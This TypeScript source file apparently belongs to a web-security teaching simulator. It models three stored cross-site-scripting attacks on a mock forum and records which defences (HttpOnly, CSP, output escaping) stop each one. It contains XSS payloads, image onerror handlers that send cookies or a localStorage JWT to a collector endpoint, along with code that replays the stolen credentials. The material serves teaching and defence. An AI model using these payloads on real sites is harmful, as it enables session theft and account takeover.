import { storageKeys } from '../catalogue/holdings.ts'
import { bearer } from '../engine/bearer.ts'
import type { ClientRequest } from '../engine/agent.ts'
import { csrfHeader } from '../programs/settings.ts'
import type { AttackId } from '../vocabulary.ts'
import type { Attack, Stop } from './attack.ts'
import { incidents } from './incidents.ts'
import { opensForums, outcome, postsForVictim } from './judging.ts'
import { asBrowser, collected, form, formHeaders, inCookies, jsonHeaders, logIn } from './moves.ts'
import { collector, tokenIn } from './payloads.ts'
import { knownAtBoth } from './preludes.ts'
import type { AttackScene } from './scene.ts'
import { inBrowser } from './shapes.ts'

/** Attacks by a script that stands in a page of the application itself. */

/** A post that is no text: the handler runs wherever it is shown unescaped. */
const post = (program: AttackId, code: string): string =>
  `Nice teapot! <img src="data:," alt="" data-program="${program}" onerror="${code}">`

const code: Readonly<Record<string, string>> = {
  'xss-reads-cookie': `new Image().src='${collector}?found='+encodeURIComponent(document.cookie)`,
  'xss-reads-local-storage': `new Image().src='${collector}?found='+localStorage.getItem('jwt')`,
  'xss-rides-session': `fetch('/posts',{method:'POST',body:…})`,
}

/** The Hacker, a member like others, writes a post; whoever reads Forums gets it. */
const writePost = async (scene: AttackScene, program: AttackId): Promise<void> => {
  const { places, shape } = scene
  const { origin } = places.Forums
  const text = post(program, code[program] ?? '')
  await logIn(scene, 'Forums')
  const { hacker } = scene
  const isForm = shape.client === 'webapp'
  const same = asBrowser(scene)
  const asked = isForm
    ? await scene.ask({ method: 'GET', url: `${origin}/posts/new`, headers: same })
    : null
  const csrf = tokenIn(asked?.body ?? '')
  const jwt = hacker.storage.read(`${origin} ${storageKeys.jwt}`)
  await scene.ask({
    method: 'POST',
    url: isForm ? `${origin}/posts` : `${origin}/api/posts`,
    headers: [
      ...same,
      ...(isForm ? formHeaders : jsonHeaders),
      ['origin', origin],
      [csrfHeader, '1'],
      ...(jwt === null ? [] : [bearer(jwt)]),
    ],
    body: isForm ? form({ text, csrf }) : JSON.stringify({ text }),
  })
  scene.startAfresh()
}

const emptyHanded = (scene: AttackScene): string =>
  collected(scene) === null
    ? 'Waits in vain: nothing comes from the script'
    : 'Finds nothing in what the script sent'

/** The Hacker asks Forums for its posts, with what was found. */
const showAtForums = (
  { hacker, places }: AttackScene,
  shown: Pick<ClientRequest, 'handmade' | 'headers'>,
): Promise<unknown> => {
  const { origin, protectedPath, loadPath = protectedPath } = places.Forums
  return hacker.ask({ method: 'GET', url: `${origin}${loadPath}`, ...shown })
}

const open = { type: 'learner.load', app: 'Forums' } as const

/** Settings of cookies that are no matter to a script of the page itself. */
const noMatter: readonly Stop[] = ['secure', ['same-site', 'strict'], 'host-prefix', 'csrf-token']

const readsCookie: Attack = {
  id: 'xss-reads-cookie',
  row: 'A1',
  title: 'A script in a post reads the cookies',
  precondition: 'Forums shows what its members write, and the victim reads it.',
  incident: incidents.apache,
  tries: (shape) =>
    inBrowser(shape) &&
    shape.sessionStrategy !== 'jwt-local-storage' &&
    shape.fusionauth === 'own-site',
  weak: () => ({ 'http-only': false, csp: false, 'output-escaping': false }),
  prelude: knownAtBoth,
  stops: () => ['http-only', 'csp', 'output-escaping'],
  helpsNot: () => [...noMatter, 'new-id-at-login', 'origin-check', 'fetch-metadata'],
  play: async (scene) => {
    await writePost(scene, 'xss-reads-cookie')
    await scene.does(open)
    const found = inCookies(collected(scene) ?? '')
    if (found.length === 0) return scene.note('finds-nothing', emptyHanded(scene))
    scene.note('shows-cookie', 'Shows the cookies that the script sent')
    await showAtForums(scene, { handmade: found })
  },
  won: (trace) => outcome('xss-reads-cookie', opensForums(trace, 'shows-cookie')),
}

const readsLocalStorage: Attack = {
  id: 'xss-reads-local-storage',
  row: 'A1',
  title: 'A script in a post reads the local storage',
  precondition: 'Forums shows what its members write, and the victim reads it.',
  incident: null,
  tries: (shape) => shape.sessionStrategy === 'jwt-local-storage',
  weak: () => ({ csp: false, 'output-escaping': false }),
  prelude: knownAtBoth,
  stops: () => ['csp', 'output-escaping'],
  helpsNot: () => ['http-only', ...noMatter],
  play: async (scene) => {
    await writePost(scene, 'xss-reads-local-storage')
    await scene.does(open)
    const found = collected(scene) ?? ''
    if (found === '') return scene.note('finds-nothing', emptyHanded(scene))
    scene.note('shows-token', 'Shows the JWT that the script sent')
    await showAtForums(scene, { headers: [bearer(found)] })
  },
  won: (trace) => outcome('xss-reads-local-storage', opensForums(trace, 'shows-token')),
}

const ridesSession: Attack = {
  id: 'xss-rides-session',
  row: 'A2',
  title: 'A script in a post acts in the victim’s name',
  precondition: 'Forums shows what its members write, and the victim reads it.',
  incident: null,
  tries: inBrowser,
  weak: () => ({ csp: false, 'output-escaping': false }),
  prelude: knownAtBoth,
  stops: () => ['csp', 'output-escaping'],
  helpsNot: () => ['http-only', ...noMatter, 'new-id-at-login', 'client-binding', 'origin-check'],
  play: async (scene) => {
    await writePost(scene, 'xss-rides-session')
    await scene.does(open)
  },
  won: (trace) => outcome('xss-rides-session', postsForVictim(trace)),
}

export const scripts: readonly Attack[] = [readsCookie, readsLocalStorage, ridesSession]
